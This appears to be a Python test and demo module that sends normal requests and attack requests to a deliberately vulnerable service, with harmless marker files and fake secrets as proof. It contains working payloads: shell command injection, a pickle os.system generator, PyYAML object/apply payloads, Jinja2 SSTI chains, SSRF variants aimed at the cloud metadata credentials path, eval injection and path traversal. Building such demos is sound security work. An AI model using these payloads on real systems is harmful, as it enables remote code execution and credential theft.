"""What the demo sends to the service: normal requests and attacks, each with the harmless
proof that shows whether it worked. Shared by the demo driver and tests/attacks."""

import base64
import json
import urllib.parse
from dataclasses import dataclass, field

# Addresses that the SSRF attacks aim at. They exist only inside the demo's own, empty
# network namespace, where the driver puts them on `lo` and serves fake secrets from them.
METADATA_ADDRESS = "169.254.169.254"
PRIVATE_ADDRESS = "10.0.5.20"
METADATA_DECIMAL = str(sum(int(part) << shift for part, shift in
                           zip(METADATA_ADDRESS.split("."), (24, 16, 8, 0))))


@dataclass
class Request:
    """One HTTP request and how to judge its outcome."""

    id: str
    kind: str                 # "normal" or "attack"
    title: str
    method: str
    path: str
    params: dict = field(default_factory=dict)
    body: str = None
    content_type: str = None
    cookies: dict = field(default_factory=dict)
    # normal: the status and a text the answer must have
    expect_status: int = 200
    expect_text: str = None
    # attack: "marker" (a file the payload creates), "secret" (a fake secret in the answer),
    # "passwd" (/etc/passwd's first entry in the answer)
    proof: str = None
    needs_netns: bool = False  # aims at a non-loopback address

    def target(self, rid):
        query = dict(self.params, rid=str(rid))
        return self.path + "?" + urllib.parse.urlencode(query)


def _pickle_os_system(command):
    # The classic pickle payload, in protocol 0: os.system(command) at load time.
    return b"cos\nsystem\n(V" + command.encode() + b"\ntR."


def _pickle_plain(value):
    import pickle
    return pickle.dumps(value, protocol=4)


def _b64(data):
    return base64.b64encode(data).decode()


def requests(proofs, upstream):
    """The requests, in the order they are sent. `proofs` is the directory where marker
    files may appear; `upstream` the base URL of the allowed loopback service."""

    def marker(name):
        return f"{proofs}/{name}"

    touch = lambda name: f"touch {marker(name)}"  # noqa: E731
    normal = [
        Request("health", "normal", "health check (JSON)", "GET", "/health", expect_text='"ok"'),
        Request("index", "normal", "index page (template file)", "GET", "/", expect_text="<h1>"),
        Request("add-note", "normal", "add a note (sqlite file)", "POST", "/notes",
                body=json.dumps({"text": "buy milk"}), content_type="application/json",
                expect_status=201, expect_text="buy milk"),
        Request("list-notes", "normal", "list notes (sqlite file)", "GET", "/notes",
                expect_text="buy milk"),
        Request("hello", "normal", "greeting (template file)", "GET", "/hello",
                params={"name": "Ada"}, expect_text="Hello Ada!"),
        Request("greet", "normal", "greeting (template string)", "GET", "/greet",
                params={"name": "Ada"}, expect_text="Hello Ada!"),
        Request("weather", "normal", "upstream call to loopback", "GET", "/weather",
                expect_text="sunny"),
        Request("fetch-upstream", "normal", "fetch an allowed loopback URL", "GET", "/fetch",
                params={"url": upstream + "/weather"}, expect_text="sunny"),
        Request("profile", "normal", "preferences cookie (plain pickle)", "GET", "/profile",
                cookies={"prefs": _b64(_pickle_plain({"theme": "dark", "size": 12}))},
                expect_text="dark"),
        Request("config", "normal", "upload settings (plain YAML)", "POST", "/config",
                body="debug: false\nworkers: 4\n", content_type="application/yaml",
                expect_text="workers"),
        Request("file", "normal", "read a served file", "GET", "/files",
                params={"name": "readme.txt"}, expect_text="meant to serve"),
    ]
    attacks = [
        Request("shell-subprocess", "attack", "command injection: subprocess, shell=True", "GET",
                "/resolve", params={"host": "localhost; " + touch("shell-subprocess")},
                proof="marker"),
        Request("shell-os-system", "attack", "command injection: os.system", "GET", "/backup",
                params={"name": "x; " + touch("shell-os-system") + " #"}, proof="marker"),
        Request("pickle-cookie", "attack", "pickle cookie: os.system", "GET", "/profile",
                cookies={"prefs": _b64(_pickle_os_system(touch("pickle-cookie")))},
                proof="marker"),
        Request("yaml-os-system", "attack", "PyYAML unsafe_load: os.system", "POST", "/config",
                body=f'!!python/object/apply:os.system ["{touch("yaml-os-system")}"]\n',
                content_type="application/yaml", proof="marker"),
        Request("yaml-popen", "attack", "PyYAML unsafe_load: subprocess.Popen", "POST",
                "/config", body=("!!python/object/apply:subprocess.Popen\n"
                                 f"- [touch, {marker('yaml-popen')}]\n"),
                content_type="application/yaml", proof="marker"),
        Request("ssti-cycler", "attack", "SSTI: cycler -> os.popen", "GET", "/greet",
                params={"name": "{{ cycler.__init__.__globals__.os.popen('%s').read() }}"
                        % touch("ssti-cycler")}, proof="marker"),
        Request("ssti-lipsum", "attack", "SSTI: lipsum -> os.popen", "GET", "/greet",
                params={"name": "{{ lipsum.__globals__['os'].popen('%s').read() }}"
                        % touch("ssti-lipsum")}, proof="marker"),
        Request("ssti-config", "attack", "SSTI: Flask config -> os.popen", "GET", "/greet",
                params={"name": "{{ config.__class__.__init__.__globals__['os']"
                                ".popen('%s').read() }}" % touch("ssti-config")},
                proof="marker"),
        Request("ssti-import", "attack", "SSTI: __builtins__.__import__ -> os.popen", "GET",
                "/greet", params={"name": "{{ self.__init__.__globals__.__builtins__"
                                          ".__import__('os').popen('%s').read() }}"
                                  % touch("ssti-import")}, proof="marker"),
        Request("ssti-subclasses", "attack", "SSTI: object.__subclasses__ -> Popen", "GET",
                "/greet", params={"name": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}"
                                          "{% if c.__name__ == 'Popen' %}"
                                          "{{ c(['touch', '" + marker("ssti-subclasses") + "']).wait() }}"
                                          "{% endif %}{% endfor %}"},
                proof="marker"),
        Request("ssrf-metadata", "attack", "SSRF: cloud metadata 169.254.169.254", "GET",
                "/fetch", params={"url": f"http://{METADATA_ADDRESS}/latest/meta-data/iam/"
                                         "security-credentials/demo"},
                proof="secret", needs_netns=True),
        Request("ssrf-metadata-decimal", "attack", f"SSRF: metadata as http://{METADATA_DECIMAL}",
                "GET", "/fetch",
                params={"url": f"http://{METADATA_DECIMAL}/latest/meta-data/iam/"
                               "security-credentials/demo"},
                proof="secret", needs_netns=True),
        Request("ssrf-metadata-ipv6", "attack", "SSRF: metadata as IPv4-mapped IPv6", "GET",
                "/fetch", params={"url": f"http://[::ffff:{METADATA_ADDRESS}]/latest/meta-data/"
                                         "iam/security-credentials/demo"},
                proof="secret", needs_netns=True),
        Request("ssrf-redirect", "attack", "SSRF: allowed host redirects to metadata", "GET",
                "/fetch", params={"url": upstream + "/redirect?to=" + urllib.parse.quote(
                    f"http://{METADATA_ADDRESS}/latest/meta-data/iam/security-credentials/demo")},
                proof="secret", needs_netns=True),
        Request("ssrf-private", "attack", f"SSRF: private range {PRIVATE_ADDRESS}", "GET",
                "/fetch", params={"url": f"http://{PRIVATE_ADDRESS}/admin/users"},
                proof="secret", needs_netns=True),
        Request("eval", "attack", "eval of input", "GET", "/calc",
                params={"expr": f"__import__('pathlib').Path('{marker('eval')}').touch()"},
                proof="marker"),
        Request("traversal-dotdot", "attack", "path traversal: ../../etc/passwd", "GET",
                "/files", params={"name": "../" * 8 + "etc/passwd"}, proof="passwd"),
        Request("traversal-absolute", "attack", "path traversal: /etc/passwd", "GET", "/files",
                params={"name": "/etc/passwd"}, proof="passwd"),
    ]
    after = [Request("health-after", "normal", "health check after the attacks", "GET",
                     "/health", expect_text='"ok"')]
    return normal + attacks + after
